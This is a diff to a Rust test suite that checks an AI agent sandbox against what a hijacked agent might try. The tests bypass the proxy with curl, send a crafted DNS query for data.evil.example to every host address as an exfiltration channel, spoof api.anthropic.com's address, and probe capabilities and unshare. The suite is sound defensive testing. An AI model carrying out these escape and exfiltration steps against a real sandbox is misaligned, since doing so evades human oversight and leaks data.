@@ -1,6 +1,8 @@
 //! What a hijacked agent tries from inside a real sandbox. Names begin with the row of the attack list they belong to.
 //! Rows that need crafted bytes on the wire are tested with raw sockets in `crates/proxy/tests`.
 
+use std::net::UdpSocket;
+
 use clauderon_tests::{World, on_each_backend};
 
 on_each_backend!(
@@ -51,15 +53,13 @@ fn b1_without_proxy_variables_nothing_is_reachable(backend: &str) {
     let host = std::net::TcpListener::bind("0.0.0.0:0").expect("a port can be had");
     host.set_nonblocking(true).expect("accepting need not wait");
     let port = host.local_addr().expect("it is bound").port();
-    let addresses = std::process::Command::new("hostname").arg("-I").output();
-    let addresses = addresses.expect("the host's addresses are known").stdout;
-    let addresses = String::from_utf8_lossy(&addresses).replace('\n', " ");
+    let addresses = addresses_of_this_host().join(" ");
     let seen = world.inside(
         backend,
         "a",
         &format!(
-            "unset HTTPS_PROXY https_proxy HTTP_PROXY http_proxy; for a in 127.0.0.1 {addresses}; do \
-             case $a in *:*) continue;; esac; curl -sS -m 2 http://$a:{port}/; echo \"code $?\"; done; \
+            "unset HTTPS_PROXY https_proxy HTTP_PROXY http_proxy; for a in {addresses}; do \
+             curl -sS -m 2 http://$a:{port}/; echo \"code $?\"; done; \
              curl -sS -m 5 --resolve api.anthropic.com:443:192.0.2.1 https://api.anthropic.com/v1/models; echo \"code $?\""
         ),
     );
@@ -98,12 +98,59 @@ fn b4_an_unknown_host_gets_a_json_refusal_that_is_in_the_audit(backend: &str) {
 
 fn b6_names_cannot_be_looked_up_inside(backend: &str) {
     let world = World::new();
-    let seen = world.inside(
-        backend,
-        "a",
-        "getent hosts data.evil.example; echo \"code $?\"; getent hosts github.com; echo \"code $?\"",
+    // A name server of the attacker's, at every address of this host: it need not answer, being asked is the way out.
+    let server = UdpSocket::bind("0.0.0.0:0").expect("a port can be had");
+    let port = server.local_addr().expect("it is bound").port();
+    let addresses = addresses_of_this_host();
+    for address in &addresses {
+        let asks = UdpSocket::bind("0.0.0.0:0").expect("a port can be had");
+        asks.send_to(b"from the host", (address.as_str(), port))
+            .expect("the host reaches itself");
+        let (length, _) = server
+            .recv_from(&mut [0; 64])
+            .expect("what is sent arrives");
+        assert_eq!(length, "from the host".len());
+    }
+    let script = r#"
+question = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"\x04data\x04evil\x07example\x00\x00\x01\x00\x01"
+for address in "ADDRESSES".split():
+    try:
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, (address, PORT))
+    except OSError:
+        pass
+for name in ("data.evil.example", "github.com"):
+    try:
+        print("looked up", name, socket.getaddrinfo(name, 443))
+    except OSError:
+        print("unknown", name)
+"#;
+    let script = script
+        .replace("ADDRESSES", &addresses.join(" "))
+        .replace("PORT", &port.to_string());
+    let seen = world.python(backend, "a", &[], &script);
+    assert_eq!(
+        seen, "unknown data.evil.example\nunknown github.com\n",
+        "a name was looked up"
     );
-    assert!(!seen.contains("code 0"), "{seen}");
+    // Within one kernel nothing is on its way any more once the sandbox has ended.
+    server
+        .set_nonblocking(true)
+        .expect("receiving need not wait");
+    let asked = server.recv_from(&mut [0; 64]);
+    assert!(asked.is_err(), "a name server was asked: {asked:?}");
+}
+
+/// Returns the addresses, of version 4, at which something on this host can be reached from it.
+fn addresses_of_this_host() -> Vec<String> {
+    let output = std::process::Command::new("hostname").arg("-I").output();
+    let output = output.expect("the host's addresses are known").stdout;
+    let all = String::from_utf8_lossy(&output).into_owned();
+    let all = all.split_whitespace().filter(|one| !one.contains(':'));
+    ["127.0.0.1"]
+        .into_iter()
+        .chain(all)
+        .map(str::to_owned)
+        .collect()
 }
 
 fn b8_another_port_and_the_proxy_itself_are_refused(backend: &str) {
@@ -247,9 +294,12 @@ fn f6_nothing_can_be_gained(backend: &str) {
     let seen = world.inside(
         backend,
         "a",
-        "grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status; id -u; unshare -U true 2>&1; echo \"unshare $?\"",
+        "grep -E '^(Cap[A-Z][a-z]+|NoNewPrivs|Seccomp):' /proc/self/status; id -u; unshare -U true 2>&1; echo \"unshare $?\"",
     );
-    assert!(seen.contains("CapEff:\t0000000000000000"), "{seen}");
+    for set in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
+        let empty = format!("{set}:\t0000000000000000\n");
+        assert!(seen.contains(&empty), "{set} is not empty: {seen}");
+    }
     assert!(seen.contains("NoNewPrivs:\t1"), "{seen}");
     assert!(seen.contains("Seccomp:\t2"), "{seen}");
     assert!(!seen.lines().any(|line| line == "0"), "not root: {seen}");
